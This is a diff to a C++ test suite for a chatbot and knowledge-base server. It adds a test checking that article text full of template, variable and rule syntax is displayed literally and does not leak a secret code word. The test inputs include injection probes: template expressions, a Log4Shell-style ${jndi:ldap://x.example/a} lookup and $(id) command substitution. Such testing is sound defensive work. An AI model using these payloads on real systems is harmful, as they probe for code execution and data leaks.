@@ -37,6 +37,8 @@ struct Place {
     std::ofstream(folder / "content" / "out_of_scope.yaml")
         << "out_of_scope:\n  en: [cleaning a charcoal grill, how do i clean my charcoal grill, "
            "supplier margins of charcoal grills, margin, charcoal grill, the grill is dirty]\n";
+    std::ofstream(folder / "content" / "bot.yaml", std::ios::app)
+        << "variables: {code_word: swordfish}\n";
     std::ofstream(folder / "content" / "sources.yaml")
         << "sources:\n"
            "  wiki: {kind: markdown, options: {folder: ../nowhere}}\n"
@@ -388,6 +390,62 @@ TEST_CASE("an intent shows an article of a source, and the next best or a person
   CHECK((has(next_best, "wiki:other") || has(next_best, "handoff_requested")));
   remove("other");
   CHECK(has(place.answer("my grill is dirty"), "handoff_requested"));
+}
+
+TEST_CASE(
+    "what looks like a template, a slot or a rule in an article reaches everybody as plain words") {
+  const std::string title = "Cleaning a charcoal grill {{77777+77777}} ${HOME} {code_word} %s";
+  const std::vector<std::string> lines = {
+      "Brush the charcoal grill {code_word} and {{code_word}} clean.",
+      "Then ${code_word} ${jndi:ldap://x.example/a} $(id) `id` {order_number}.",
+      "{% include 'x' %} <%= 77777+77777 %> #{77777+77777} [[77777+77777]] @import %(x)s {0}.",
+      "[a charcoal grill](order_number) [[human_agent]] !handoff.",
+      "rules: [{id: x, pattern: '.*', priority: 99}] goto: end, handoff: {team: support}."};
+  std::string body;
+  for (const auto& line : lines) body += line + "\n\n";
+  Place place;
+  place.put("grill", title, body, Visibility::everybody);
+
+  const auto visitor = place.server.start();
+  const auto added = place.server.say(visitor, "how do i clean my charcoal grill").json();
+  bool shown = false;
+  for (const auto& event : added["events"]) {
+    if (event["type"] != "message") continue;
+    for (const auto& link : event.value("articles", nlohmann::json::array())) {
+      if (link["id"] != "wiki:grill") continue;
+      shown = true;
+      CHECK(link["title"] == title);
+      std::string snippet = link["snippet"];
+      for (const char* mark : {"\xEE\x80\x80", "\xEE\x80\x81"}) {
+        for (auto at = snippet.find(mark); at != snippet.npos; at = snippet.find(mark)) {
+          snippet.erase(at, 3);
+        }
+      }
+      CHECK(has(snippet, lines[0]));
+    }
+  }
+  CHECK_MESSAGE(shown, added.dump());
+  const auto opened = place.server.get("/api/v1/articles/wiki:grill?lang=en");
+  CHECK(opened.json()["title"] == title);
+  const auto ruta = place.server.agent("Ruta");
+  const auto found =
+      place.server.get("/api/v1/agent/search?q=clean+charcoal+grill&lang=en", ruta).body;
+  const auto events = place.server.events(visitor).body;
+  for (const auto* answer : {&opened.body, &found, &events}) {
+    CHECK(has(*answer, "{{77777+77777}} ${HOME} {code_word} %s"));
+    CHECK_FALSE(has(*answer, "swordfish"));
+    CHECK_FALSE(has(*answer, "155554"));
+  }
+  for (const char* part :
+       {"{{code_word}} clean", "${jndi:ldap://x.example/a} $(id)", "{order_number}.",
+        "{% include 'x' %} <%= 77777+77777 %> #{77777+77777} [[77777+77777]] @import %(x)s {0}.",
+        "[[human_agent]] !handoff.", "pattern: '.*', priority: 99}] goto: end"}) {
+    CAPTURE(part);
+    CHECK(has(opened.body, part));
+  }
+  // No rule came of it: nobody is called, and the conversation goes on.
+  const auto conversation = place.server.seen(visitor, ruta);
+  CHECK(conversation["status"] == "bot");
 }
 
 TEST_CASE("articles of a source that is not named any more are not used") {
